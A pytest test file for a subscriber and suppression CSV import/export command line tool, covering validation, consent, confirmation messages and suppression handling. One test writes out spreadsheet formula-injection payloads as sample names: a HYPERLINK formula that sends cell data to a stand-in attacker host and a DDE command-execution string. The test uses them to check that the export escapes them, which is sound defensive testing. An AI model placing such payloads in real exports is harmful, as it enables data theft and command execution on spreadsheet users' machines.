"""``uanet subscribers import|export`` and ``uanet suppressions import|export``, through typer's
CliRunner, on SQLite and PostgreSQL."""

from __future__ import annotations

import asyncio
import csv
import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import typer
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
from typer.testing import CliRunner, Result

from services.subscriptions.audience import resolve_audience
from services.subscriptions.links import Links
from services.subscriptions.models import Consent, Outbox, Subscriber, Suppression
from shared.db import make_engine, make_sessionmaker
from tests.conftest import SECRET
from tests.subscriptions.conftest import PUBLIC_URL, action_published, known_action
from uanet_cli import subscribers as cli

HEADER = "email,phone,name,country,language,timezone,channels,themes,frequency\n"


def command_line() -> typer.Typer:
    app = typer.Typer()
    cli.register(app)
    return app


async def uanet(database: str, *args: str) -> Result:
    # The command runs its own event loop (asyncio.run), so it runs in a thread here.
    env = {
        "UANET_SUBSCRIPTIONS_DATABASE_URL": database,
        "UANET_SECRET_KEY": SECRET,
        "UANET_PUBLIC_URL": PUBLIC_URL,
    }
    return await asyncio.to_thread(
        CliRunner().invoke, command_line(), list(args), env=env, catch_exceptions=False
    )


@pytest.fixture
async def db(subscriptions_db: str) -> AsyncIterator[async_sessionmaker[AsyncSession]]:
    engine = make_engine(subscriptions_db)
    yield make_sessionmaker(engine)
    await engine.dispose()


async def everyone(db: async_sessionmaker[AsyncSession]) -> dict[str, Subscriber]:
    async with db() as session:
        rows = (await session.execute(select(Subscriber).order_by(Subscriber.id))).scalars()
        return {s.email or s.phone or "": s for s in rows}


async def test_import_confirmed_takes_valid_rows_and_refuses_the_rest(
    subscriptions_db: str, db: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    rows = [
        "ana@example.net,+447911123456,Ana,GB,en,Europe/London,email;sms,torture;death-penalty,",
        "not-an-email,,Bob,GB,,,,,",
        ",0612345678,Zoé,FR,fr,,sms,,daily_digest",
        "ANA@example.net,,Ana again,GB,,,,,",
        "carl@example.org,,Carl,Narnia,,,,,",
        "dina@example.org,,Dina,IE,xx-long,,,,",
        "",
        "eve@example.org,,Eve,IE,,,email,Not_A_Slug!,",
    ]
    # Many more, so the import spans several chunks (1,000 rows each).
    rows += [f"p{n}@example.org,,P{n},GB,es,,,," for n in range(2300)]
    source = tmp_path / "people.csv"
    source.write_text(HEADER + "\n".join(rows) + "\n", encoding="utf-8")

    result = await uanet(subscriptions_db, "subscribers", "import", str(source), "--confirmed")

    assert result.exit_code == 0, result.output
    assert result.stdout.strip().splitlines()[-1] == "taken: 2302, refused: 5"
    refusals = result.stderr.strip().splitlines()
    assert refusals == [
        "refused line 3: email: not a valid email address",
        "refused line 5: email: already subscribed (a***@example.net)",
        "refused line 6: country: String should have at most 2 characters",
        "refused line 7: language: String should have at most 2 characters",
        "refused line 9: themes: each theme must be a slug such as death-penalty",
    ]
    assert "ana@example.net" not in result.output  # addresses are never printed in full
    people = await everyone(db)
    assert len(people) == 2302
    ana, zoe = people["ana@example.net"], people["+33612345678"]
    assert (ana.email_status, ana.sms_status, ana.themes) == (
        "confirmed",
        "confirmed",
        ["torture", "death-penalty"],
    )
    assert (zoe.email_status, zoe.sms_status, zoe.timezone, zoe.frequency) == (
        None,
        "confirmed",
        "Europe/Paris",
        "daily_digest",
    )
    assert people["p2299@example.org"].language == "es"
    async with db() as session:
        consents = (
            await session.execute(select(Consent).where(Consent.subscriber_id == ana.id))
        ).scalars()
        assert sorted((c.channel, c.event, c.source) for c in consents) == [
            ("email", "confirmed", "import"),
            ("email", "given", "import"),
            ("sms", "confirmed", "import"),
            ("sms", "given", "import"),
        ]
        assert (await session.execute(select(Outbox))).first() is None  # nothing to confirm

    again = await uanet(subscriptions_db, "subscribers", "import", str(source), "--confirmed")
    assert again.exit_code == 0
    assert again.stdout.strip().splitlines()[-1] == "taken: 0, refused: 2307"


async def test_import_without_confirmed_asks_each_new_subscriber_to_confirm(
    subscriptions_db: str, db: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    async with db() as session, session.begin():
        # This number said STOP earlier: no confirmation SMS for it.
        session.add(Suppression(channel="sms", address="+33612345678", reason="opted_out"))
    source = tmp_path / "people.csv"
    source.write_text(
        HEADER
        + "ana@example.net,,Ana,GB,fr,,,,\n"
        + ",+33612345678,Zoé,FR,fr,,sms,,\n"
        + "bo@example.org,+447911123456,Bo,GB,en,,email;sms,,\n",
        encoding="utf-8",
    )

    result = await uanet(subscriptions_db, "subscribers", "import", str(source))

    assert result.exit_code == 0, result.output
    assert "taken: 3, refused: 0" in result.stdout
    assert "confirmations queued: 3" in result.stdout
    people = await everyone(db)
    assert {(p.email_status, p.sms_status) for p in people.values()} == {
        ("pending", None),
        (None, "pending"),
        ("pending", "pending"),
    }
    async with db() as session:
        bodies = [json.loads(b) for b in (await session.execute(select(Outbox.body))).scalars()]
    sent = sorted((m["template"], m["to"], m["language"]) for m in bodies)
    assert sent == [
        ("confirm_email", "ana@example.net", "fr"),
        ("confirm_email", "bo@example.org", "en"),
        ("confirm_sms", "+447911123456", "en"),
    ]
    ana_link = next(m for m in bodies if m["to"] == "ana@example.net")["context"]["confirm_url"]
    assert ana_link.startswith(f"{PUBLIC_URL}/confirm/")


async def test_export_streams_every_subscriber_and_reimports(
    subscriptions_db: str, db: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    source = tmp_path / "people.csv"
    source.write_text(
        HEADER + "ana@example.net,+447911123456,Ana,GB,ar,Asia/Beirut,email;sms,torture,\n",
        encoding="utf-8",
    )
    assert (
        await uanet(subscriptions_db, "subscribers", "import", str(source), "--confirmed")
    ).exit_code == 0
    exported = tmp_path / "out.csv"

    result = await uanet(subscriptions_db, "subscribers", "export", str(exported))

    assert result.exit_code == 0 and "exported: 1" in result.stdout
    with exported.open(encoding="utf-8", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["email"] == "ana@example.net" and row["channels"] == "email;sms"
    assert (row["themes"], row["language"], row["email_status"]) == ("torture", "ar", "confirmed")
    assert row["id"] == str((await everyone(db))["ana@example.net"].public_id)
    # The export is importable as it is (into another database it would be taken).
    again = await uanet(subscriptions_db, "subscribers", "import", str(exported), "--confirmed")
    assert "refused line 2: email: already subscribed" in again.stderr


async def test_export_is_safe_in_a_spreadsheet_and_still_reimports(
    subscriptions_db: str, db: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    source = tmp_path / "people.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        rows = csv.writer(handle)
        rows.writerow(HEADER.strip().split(","))
        rows.writerow(["ana@example.net", "+447911123456", formula, "GB", "en", "", "email;sms"])
        attack = "@SUM(1+1)*cmd|' /C calc'!A0"
        rows.writerow(["bo@example.net", "", attack, "GB", "en", "", "email"])
    assert (
        await uanet(subscriptions_db, "subscribers", "import", str(source), "--confirmed")
    ).exit_code == 0
    exported = tmp_path / "out.csv"

    assert (await uanet(subscriptions_db, "subscribers", "export", str(exported))).exit_code == 0

    with exported.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + formula in cells and "'+447911123456" in cells
    # Imported into an empty database, the export gives back the names and numbers as they were.
    async with db() as session, session.begin():
        await session.execute(Consent.__table__.delete())
        await session.execute(Subscriber.__table__.delete())
    again = await uanet(subscriptions_db, "subscribers", "import", str(exported), "--confirmed")
    assert again.exit_code == 0, again.stderr
    people = await everyone(db)
    assert people["ana@example.net"].name == formula
    assert people["ana@example.net"].phone == "+447911123456"
    assert people["bo@example.net"].name.startswith("@SUM")


async def test_imported_suppressions_stop_sending_at_once(
    subscriptions_db: str, db: async_sessionmaker[AsyncSession], tmp_path: Path, links: Links
) -> None:
    people = tmp_path / "people.csv"
    people.write_text(
        HEADER
        + "ana@example.net,+447911123456,Ana,GB,en,,email;sms,,\n"
        + "bo@example.org,,Bo,GB,en,,email,,\n",
        encoding="utf-8",
    )
    assert (
        await uanet(subscriptions_db, "subscribers", "import", str(people), "--confirmed")
    ).exit_code == 0
    stop = tmp_path / "suppressions.csv"
    stop.write_text(
        "channel,address,reason\n"
        "sms,+44 7911 123456,opted_out\n"
        "email,BO@example.org,hard_bounce\n"
        "email,BO@example.org,hard_bounce\n"
        "fax,123,opted_out\n"
        "sms,07911123456,opted_out\n"
        "email,x@example.org,spam\n",
        encoding="utf-8",
    )

    result = await uanet(subscriptions_db, "suppressions", "import", str(stop))

    assert result.exit_code == 0, result.output
    assert "taken: 3 (0 already suppressed), refused: 3" in result.stdout
    assert "refused line 5: channel: must be email or sms" in result.stderr
    assert "refused line 6: address: not a valid phone number" in result.stderr
    assert "refused line 7: reason:" in result.stderr
    event = action_published()
    async with db() as session, session.begin():
        session.add(known_action(event))
    await resolve_audience(
        sessionmaker=db,
        links=links,
        action_id=event.action_id,
        notify=lambda: None,
    )
    async with db() as session:
        [batch] = [
            json.loads(b)
            for b in (
                await session.execute(
                    select(Outbox.body).where(Outbox.routing_key == "dispatch.batch")
                )
            ).scalars()
        ]
    assert [(r["address"], r["channel"]) for r in batch["recipients"]] == [
        ("ana@example.net", "email")
    ]

    exported = tmp_path / "suppressed.csv"
    out = await uanet(subscriptions_db, "suppressions", "export", str(exported))
    assert out.exit_code == 0 and "exported: 2" in out.stdout
    with exported.open(encoding="utf-8", newline="") as handle:
        listed = sorted((r["channel"], r["address"], r["reason"]) for r in csv.DictReader(handle))
    # A number starts with "+": written as text, so no spreadsheet reads it as a formula.
    assert listed == [
        ("email", "bo@example.org", "hard_bounce"),
        ("sms", "'+447911123456", "opted_out"),
    ]


async def test_bad_arguments_are_one_line_and_exit_2(subscriptions_db: str, tmp_path: Path) -> None:
    missing = await uanet(subscriptions_db, "subscribers", "import", str(tmp_path / "nope.csv"))
    assert missing.exit_code == 2
    assert missing.stderr.strip().count("\n") == 0 and "no such file" in missing.stderr

    wrong = tmp_path / "wrong.csv"
    wrong.write_text("mail,telephone\nx,y\n", encoding="utf-8")
    result = await uanet(subscriptions_db, "subscribers", "import", str(wrong))
    assert (result.exit_code, result.stderr.strip()) == (2, "uanet: missing column(s): country")

    empty = tmp_path / "empty.csv"
    empty.write_text("", encoding="utf-8")
    assert (await uanet(subscriptions_db, "suppressions", "import", str(empty))).exit_code == 2

    latin = tmp_path / "latin.csv"
    latin.write_bytes(HEADER.encode() + "zoé@example.org,,Zoé,FR,,,,,\n".encode("latin-1"))
    bad_text = await uanet(subscriptions_db, "subscribers", "import", str(latin), "--confirmed")
    assert (bad_text.exit_code, bad_text.stderr.strip()) == (2, "uanet: the file is not UTF-8 text")

    nowhere = await uanet(subscriptions_db, "subscribers", "export", "/nonexistent/dir/out.csv")
    assert nowhere.exit_code == 2 and "no such directory" in nowhere.stderr
